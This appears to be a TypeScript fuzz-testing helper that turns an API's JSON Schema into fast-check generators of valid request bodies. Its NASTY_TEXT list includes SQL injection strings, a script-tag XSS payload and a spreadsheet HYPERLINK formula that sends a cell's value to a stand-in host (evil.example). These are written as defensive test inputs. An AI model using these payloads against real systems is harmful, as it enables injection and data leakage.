import fc from 'fast-check';

/**
 * A compact JSON Schema → fast-check converter for the subset openapi.json uses (what
 * fastify-type-provider-zod emits for our zod schemas): object/properties/required/additionalProperties,
 * string with minLength/maxLength/pattern/format (uuid, date, date-time)/enum, integer and number with
 * minimum/maximum/exclusiveMinimum/exclusiveMaximum, array with items/minItems/maxItems, anyOf/oneOf/allOf
 * (first branch), `type: [..]`, `nullable`, `const`, `default`.
 *
 * Why our own: json-schema-fast-check (0.0.x) targets fast-check 1 and io-ts 2, zod-fast-check needs zod 3
 * and fast-check < 4, and openapi-fuzzer-core does not use fast-check (no seeds, no shrinking). fast-check 4
 * itself brings the hard part, `fc.stringMatching`, which understands our patterns including `\p{L}`.
 * An unknown keyword fails loudly (`unsupported`), so a new construct in openapi.json is noticed, not
 * silently fuzzed with nothing.
 */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  nullable?: boolean;
  default?: unknown;
  [other: string]: unknown;
}

const KNOWN = new Set([
  'type',
  'properties',
  'required',
  'additionalProperties',
  'items',
  'minItems',
  'maxItems',
  'minLength',
  'maxLength',
  'pattern',
  'format',
  'enum',
  'const',
  'minimum',
  'maximum',
  'exclusiveMinimum',
  'exclusiveMaximum',
  'anyOf',
  'oneOf',
  'allOf',
  'nullable',
  'default',
  'description',
  'title',
  'examples',
  '$schema',
  'id',
]);

/** Throws on a keyword the converter does not understand (a new construct must be taught, not ignored). */
export function assertSupported(schema: JsonSchema, where: string): void {
  for (const key of Object.keys(schema)) {
    if (!KNOWN.has(key)) throw new Error(`${where}: unsupported JSON Schema keyword "${key}"`);
  }
  for (const [name, sub] of Object.entries(schema.properties ?? {})) assertSupported(sub, `${where}.${name}`);
  if (schema.items) assertSupported(schema.items, `${where}[]`);
  if (typeof schema.additionalProperties === 'object')
    assertSupported(schema.additionalProperties, `${where}{*}`);
  for (const list of [schema.anyOf, schema.oneOf, schema.allOf])
    for (const [i, sub] of (list ?? []).entries()) assertSupported(sub, `${where}|${i}`);
}

/** Strings cap at this many code units when the schema allows more (the boundary arbitrary hits the max). */
const SOFT_MAX_STRING = 48;
const SOFT_MAX_ITEMS = 4;

const charUnit = fc.oneof(
  { weight: 6, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
  { weight: 2, arbitrary: fc.constantFrom('ä', 'ň', 'ş', 'ý', 'ž', 'Ç', 'ö', 'ü', 'я', 'Ж', 'ё', 'ы', 'щ') },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
);

/**
 * Text a schema without a pattern accepts but the layers below may choke on (G16, G17): NUL, unpaired
 * surrogates, bidi and zero-width controls, SQL, HTML and spreadsheet formulas, Turkmen and Cyrillic.
 * Valid bodies carry them often, so that they reach the database and the renderers, not just the validator.
 */
export const NASTY_TEXT: readonly string[] = [
  'a\u0000b',
  '\u0000',
  'x\ud800y',
  '\udfff',
  '\u202eevil\u202c',
  'a\u200b\u200c\u200d\ufeffb',
  "' OR 1=1 --",
  "Robert'); DROP TABLE persons;--",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '@cmd',
  'Aşgabat Türkmenabat ňüöşçýäž',
  'Ашхабад Тёмная ЁЖЫК',
  'שלום مرحبا',
  '%_\\',
];

function plainString(min: number, max: number): fc.Arbitrary<string> {
  const nasty = NASTY_TEXT.filter((v) => v.length >= min && v.length <= max);
  const hi = Math.min(max, Math.max(min, SOFT_MAX_STRING));
  const body = fc
    .array(charUnit, { minLength: min, maxLength: hi })
    .map((chars) => chars.join(''))
    .filter((s) => s.length >= min && s.length <= max);
  const boundaries: fc.Arbitrary<string>[] = [];
  if (Number.isFinite(max)) boundaries.push(fc.constantFrom('x', 'Ş').map((c) => c.repeat(max)));
  if (min > 0) boundaries.push(fc.constantFrom('x', 'Ö').map((c) => c.repeat(min)));
  if (nasty.length > 0) boundaries.push(fc.constantFrom(...nasty), fc.constantFrom(...nasty));
  return boundaries.length > 0 ? fc.oneof({ weight: 8, arbitrary: body }, ...boundaries) : body;
}

const isoDate = fc
  .date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2099-12-31T23:59:59Z'), noInvalidDate: true })
  .map((d) => d.toISOString());

let knownUuids: string[] = [];

/**
 * Record ids that exist (the fuzz world's): a `format: uuid` value is one of them half of the time, so that
 * a valid body names a real agency, user or person and reaches past the "not found" checks.
 */
export function useKnownUuids(ids: string[]): void {
  knownUuids = ids;
  cache = new WeakMap();
}

/** Built arbitraries per schema (building a `\p{..}` pattern takes seconds; generating from it does not). */
let cache = new WeakMap<JsonSchema, fc.Arbitrary<unknown>>();
const patterns = new Map<string, fc.Arbitrary<string>>();

function stringArbitrary(s: JsonSchema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = s.maxLength ?? Number.POSITIVE_INFINITY;
  if (s.format === 'uuid')
    return knownUuids.length > 0 ? fc.oneof(fc.uuid(), fc.constantFrom(...knownUuids)) : fc.uuid();
  if (s.format === 'date') return isoDate.map((d) => d.slice(0, 10));
  if (s.format === 'date-time') return isoDate;
  if (s.pattern) {
    let matching = patterns.get(s.pattern);
    if (!matching) {
      matching = fc.stringMatching(new RegExp(s.pattern, 'u'));
      patterns.set(s.pattern, matching);
    }
    return matching.filter((v) => v.length >= min && v.length <= max);
  }
  return plainString(min, max);
}

function numberArbitrary(s: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const lo =
    s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + (integer ? 1 : 1e-9) : -1e9);
  const hi =
    s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - (integer ? 1 : 1e-9) : 1e9);
  const inner = integer
    ? fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) })
    : fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
  const edges = integer ? [Math.ceil(lo), Math.floor(hi)] : [lo, hi];
  return fc.oneof({ weight: 4, arbitrary: inner }, { weight: 1, arbitrary: fc.constantFrom(...edges) });
}

function typeArbitrary(s: JsonSchema, type: string): fc.Arbitrary<unknown> {
  switch (type) {
    case 'string':
      return stringArbitrary(s);
    case 'integer':
      return numberArbitrary(s, true);
    case 'number':
      return numberArbitrary(s, false);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const min = s.minItems ?? 0;
      const max = s.maxItems ?? Number.POSITIVE_INFINITY;
      const item = s.items ? validValue(s.items) : fc.jsonValue({ maxDepth: 1 });
      const arb = fc.array(item, { minLength: min, maxLength: Math.min(max, Math.max(min, SOFT_MAX_ITEMS)) });
      return Number.isFinite(max) && max > SOFT_MAX_ITEMS
        ? fc.oneof({ weight: 6, arbitrary: arb }, fc.array(item, { minLength: max, maxLength: max }))
        : arb;
    }
    case 'object': {
      const props = s.properties ?? {};
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [k, v] of Object.entries(props)) model[k] = validValue(v);
      const record = fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
      if (typeof s.additionalProperties === 'object') {
        const extra = fc.dictionary(
          fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !(k in props) && k !== '__proto__'),
          validValue(s.additionalProperties),
          { maxKeys: 3 },
        );
        return fc.tuple(record, extra).map(([r, e]) => ({ ...e, ...r }));
      }
      return record;
    }
    default:
      throw new Error(`unsupported JSON Schema type "${type}"`);
  }
}

/** Values that the schema accepts (schema-valid requests reach the handlers). */
export function validValue(s: JsonSchema): fc.Arbitrary<unknown> {
  const cached = cache.get(s);
  if (cached) return cached;
  const built = buildValid(s);
  cache.set(s, built);
  return built;
}

function buildValid(s: JsonSchema): fc.Arbitrary<unknown> {
  const base = ((): fc.Arbitrary<unknown> => {
    if (s.const !== undefined) return fc.constant(s.const);
    if (s.enum) return fc.constantFrom(...s.enum);
    const alternatives = s.anyOf ?? s.oneOf;
    if (alternatives) return fc.oneof(...alternatives.map((a) => validValue(a)));
    if (s.allOf?.[0]) return validValue({ ...s.allOf[0], ...s, allOf: undefined });
    if (Array.isArray(s.type)) return fc.oneof(...s.type.map((t) => typeArbitrary(s, t)));
    if (s.type) return typeArbitrary(s, s.type);
    return fc.jsonValue({ maxDepth: 2 });
  })();
  return s.nullable ? fc.option(base, { nil: null }) : base;
}

/** The JSON Schema types a value has (for choosing a wrong type). */
export function typesOf(s: JsonSchema): string[] {
  if (s.const !== undefined || s.enum) return [...new Set((s.enum ?? [s.const]).map(jsonType))];
  const alternatives = s.anyOf ?? s.oneOf;
  if (alternatives) return [...new Set(alternatives.flatMap(typesOf))];
  const types = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
  return s.nullable ? [...types, 'null'] : types;
}

export function jsonType(v: unknown): string {
  if (v === null) return 'null';
  if (Array.isArray(v)) return 'array';
  if (typeof v === 'number') return Number.isInteger(v) ? 'integer' : 'number';
  return typeof v;
}
